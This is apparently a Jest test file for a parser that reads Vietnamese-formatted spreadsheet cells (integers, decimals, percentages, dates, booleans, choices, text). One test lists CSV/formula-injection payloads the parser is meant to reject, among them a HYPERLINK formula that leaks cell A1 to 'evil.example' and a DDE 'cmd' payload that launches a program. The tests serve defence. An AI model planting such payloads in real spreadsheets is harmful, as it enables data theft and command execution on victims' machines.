import {
  formatNumberVi,
  isPercentFormat,
  parseDateText,
  parseDecimalText,
  parseIntegerText,
  readCellValue,
  toCellValue,
  type ValueSpec,
} from './cell-values';

const INT: ValueSpec = { type: 'integer' };
const DEC: ValueSpec = { type: 'decimal' };
const PCT: ValueSpec = { type: 'percent', min: 0, max: 100 };
const BOOL: ValueSpec = { type: 'boolean' };
const TEXT: ValueSpec = { type: 'text', maxLength: 20 };
const DATE: ValueSpec = { type: 'date' };
const CHOICE: ValueSpec = {
  type: 'choice',
  choices: [
    { value: 'GOOD', labelVi: 'Tốt', labelEn: 'Good' },
    { value: 'POOR', labelVi: 'Xuống cấp', labelEn: 'Deteriorated' },
  ],
};

const value = (raw: unknown, spec: ValueSpec, numFmt?: string) => {
  const r = readCellValue(raw, spec, numFmt);
  if (r.kind !== 'ok') throw new Error(`expected ok, got ${JSON.stringify(r)}`);
  return r.value;
};
const kind = (raw: unknown, spec: ValueSpec, numFmt?: string) => readCellValue(raw, spec, numFmt).kind;

describe('parseIntegerText', () => {
  it.each([
    ['2279', 2279],
    ['2.279', 2279],
    ['1.234.567', 1234567],
    ['2 279', 2279],
    ['2\u00a0279', 2279],
    ['-5', -5],
    ['+5', 5],
  ])('%s → %d', (text, n) => expect(parseIntegerText(text)).toBe(n));

  it.each(['abc', '3,5', '2,279', '22.79', '2.2790', '1e3', '', '12a'])('rejects %s', (text) => {
    expect(parseIntegerText(text)).toBeNull();
  });
});

describe('parseDecimalText', () => {
  it.each([
    ['12,5', 12.5],
    ['1.234,75', 1234.75],
    ['12.5', 12.5],
    ['0.25', 0.25],
    ['1.234.567', 1234567],
    ['42', 42],
    ['-3,25', -3.25],
  ])('%s → %d', (text, n) => expect(parseDecimalText(text, false)).toBe(n));

  it('calls a lone dot followed by three digits ambiguous', () => {
    expect(parseDecimalText('2.279', false)).toBe('ambiguous');
  });

  it('accepts a trailing % only for percent fields', () => {
    expect(parseDecimalText('99,6%', true)).toBe(99.6);
    expect(parseDecimalText('99,6%', false)).toBeNull();
  });

  it.each(['abc', '1,2,3', '1.23,4.5', ''])('rejects %s', (text) => expect(parseDecimalText(text, false)).toBeNull());
});

describe('parseDateText', () => {
  it.each([
    ['2024-06-15', '2024-06-15'],
    ['15/06/2024', '2024-06-15'],
    ['5/6/2024', '2024-06-05'],
    ['15-06-2024', '2024-06-15'],
    ['15.06.2024', '2024-06-15'],
    ['29/02/2024', '2024-02-29'],
  ])('%s → %s', (text, iso) => expect(parseDateText(text)).toBe(iso));

  it.each(['31/02/2024', '29/02/2023', '2024-13-01', '15/06/24', '06/15/2024', 'hôm qua', '15/06-2024'])('rejects %s', (text) => {
    expect(parseDateText(text)).toBeNull();
  });
});

describe('readCellValue', () => {
  it('maps empty and blank cells to null', () => {
    for (const spec of [INT, DEC, PCT, BOOL, TEXT, DATE, CHOICE]) {
      expect(value(null, spec)).toBeNull();
      expect(value(undefined, spec)).toBeNull();
      expect(value('   ', spec)).toBeNull();
      expect(value({ richText: [{ text: ' ' }] }, spec)).toBeNull();
    }
  });

  it('reads integers from numbers and Vietnamese-formatted text', () => {
    expect(value(2279, INT)).toBe(2279);
    expect(value('2.279', INT)).toBe(2279);
    expect(value(0, INT)).toBe(0);
  });

  it('rejects non-integers, negatives and text in integer cells', () => {
    expect(readCellValue(3.5, INT)).toMatchObject({ kind: 'invalid', shown: '3,5' });
    expect(readCellValue(-5, INT)).toMatchObject({ kind: 'invalid', reasonVi: expect.stringContaining('âm') });
    // '-5' typed as text is a (negative) number literal, not a formula: judged as an invalid count.
    expect(readCellValue('-5', INT)).toMatchObject({ kind: 'invalid', reasonVi: expect.stringContaining('âm') });
    expect(readCellValue('abc', INT)).toMatchObject({ kind: 'invalid', shown: 'abc', reasonVi: 'không phải số nguyên' });
    expect(readCellValue(true, INT).kind).toBe('invalid');
    expect(readCellValue(new Date(Date.UTC(2024, 0, 1)), INT).kind).toBe('invalid');
    expect(readCellValue(2 ** 60, INT).kind).toBe('invalid');
  });

  it('honours explicit min/max', () => {
    expect(readCellValue(-3, { type: 'integer', min: -10 })).toEqual({ kind: 'ok', value: -3 });
    expect(readCellValue(101, PCT).kind).toBe('invalid');
    expect(readCellValue(-0.5, PCT).kind).toBe('invalid');
  });

  it('reads percentages as percentage points, undoing Excel percent formatting', () => {
    expect(value(99.6, PCT)).toBe(99.6);
    expect(value(0.996, PCT, '0.0%')).toBe(99.6);
    expect(value(0.996, PCT, '0.0"%"')).toBe(0.996); // a literal % sign is not percentage formatting
    expect(value('99,6%', PCT)).toBe(99.6);
  });

  it('reads decimals', () => {
    expect(value(1234.75, DEC)).toBe(1234.75);
    expect(value('1.234,75', DEC)).toBe(1234.75);
    expect(readCellValue('2.279', DEC)).toMatchObject({ kind: 'invalid', reasonVi: expect.stringContaining('không rõ') });
  });

  it('reads booleans from TRUE/FALSE cells and Có/Không text', () => {
    expect(value(true, BOOL)).toBe(true);
    expect(value(false, BOOL)).toBe(false);
    expect(value('Có', BOOL)).toBe(true);
    expect(value('không', BOOL)).toBe(false);
    expect(value('KHÔNG', BOOL)).toBe(false);
    expect(value('TRUE', BOOL)).toBe(true);
    expect(value('Có'.normalize('NFD'), BOOL)).toBe(true);
    expect(kind('có lẽ', BOOL)).toBe('invalid');
    expect(kind(1, BOOL)).toBe('invalid');
  });

  it('reads choices by Vietnamese label or code', () => {
    expect(value('Xuống cấp', CHOICE)).toBe('POOR');
    expect(value('xuống cấp', CHOICE)).toBe('POOR');
    expect(value('GOOD', CHOICE)).toBe('GOOD');
    expect(readCellValue('Trung bình', CHOICE)).toMatchObject({ kind: 'invalid', reasonVi: expect.stringContaining("'Tốt'") });
  });

  it('reads dates from Date cells (UTC day) and text', () => {
    expect(value(new Date(Date.UTC(2024, 5, 15)), DATE)).toBe('2024-06-15');
    expect(value(new Date(Date.UTC(2024, 5, 15, 18, 30)), DATE)).toBe('2024-06-15');
    expect(value('15/06/2024', DATE)).toBe('2024-06-15');
    expect(kind('31/02/2024', DATE)).toBe('invalid');
    expect(kind(45458, DATE)).toBe('invalid');
  });

  it('reads text: NFC, trimmed, CRLF → LF, length-limited', () => {
    expect(value('  Phong Điền\r\nA Lưới  '.normalize('NFD'), TEXT)).toBe('Phong Điền\nA Lưới');
    expect(value(123, TEXT)).toBe('123');
    expect(value({ richText: [{ text: 'Huế ' }, { text: 'xanh' }] }, TEXT)).toBe('Huế xanh');
    expect(value({ text: 'trang web', hyperlink: 'https://example.org' }, TEXT)).toBe('trang web');
    expect(readCellValue('x'.repeat(21), TEXT)).toMatchObject({ kind: 'invalid', reasonVi: expect.stringContaining('20') });
  });

  it('refuses formulas, whatever their result', () => {
    expect(readCellValue({ formula: 'SUM(C6:C8)', result: 2279 }, INT)).toEqual({ kind: 'formula', shown: '=SUM(C6:C8)' });
    expect(readCellValue({ sharedFormula: 'C7', result: 1 }, INT).kind).toBe('formula');
    expect(readCellValue({ formula: 'HYPERLINK("http://evil","x")', result: 'x' }, TEXT).kind).toBe('formula');
  });

  it.each([
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1)',
    '  =1+1',
    '- Tổ chức 3 lớp bồi dưỡng',
  ])('refuses text that starts like a formula: %s', (text) => {
    expect(readCellValue(text, TEXT).kind).toBe('injection');
    expect(readCellValue(text, INT).kind).toBe('injection');
  });

  it('does not treat a plain number literal with a sign as a formula', () => {
    expect(readCellValue('-5', TEXT)).toEqual({ kind: 'ok', value: '-5' });
    expect(readCellValue('+5', INT)).toEqual({ kind: 'ok', value: 5 });
  });

  it('reports error cells as invalid', () => {
    expect(readCellValue({ error: '#DIV/0!' }, INT)).toMatchObject({ kind: 'invalid', shown: '#DIV/0!' });
  });
});

describe('toCellValue (pre-fill)', () => {
  it('writes booleans as Có/Không, choices as their label, dates as UTC dates', () => {
    expect(toCellValue(true, BOOL)).toBe('Có');
    expect(toCellValue(false, BOOL)).toBe('Không');
    expect(toCellValue('POOR', CHOICE)).toBe('Xuống cấp');
    expect(toCellValue('2024-06-15', DATE)).toEqual(new Date(Date.UTC(2024, 5, 15)));
    expect(toCellValue(null, INT)).toBeNull();
    expect(toCellValue(undefined, TEXT)).toBeNull();
    expect(toCellValue(2279, INT)).toBe(2279);
  });
});

describe('helpers', () => {
  it('formats numbers the Vietnamese way for messages', () => {
    expect(formatNumberVi(2279)).toBe('2.279');
    expect(formatNumberVi(-1234567.5)).toBe('-1.234.567,5');
    expect(formatNumberVi(3.5)).toBe('3,5');
  });

  it('recognises percentage number formats', () => {
    expect(isPercentFormat('0.0%')).toBe(true);
    expect(isPercentFormat('0%')).toBe(true);
    expect(isPercentFormat('#,##0')).toBe(false);
    expect(isPercentFormat('0\\%')).toBe(false);
    expect(isPercentFormat(undefined)).toBe(false);
  });
});
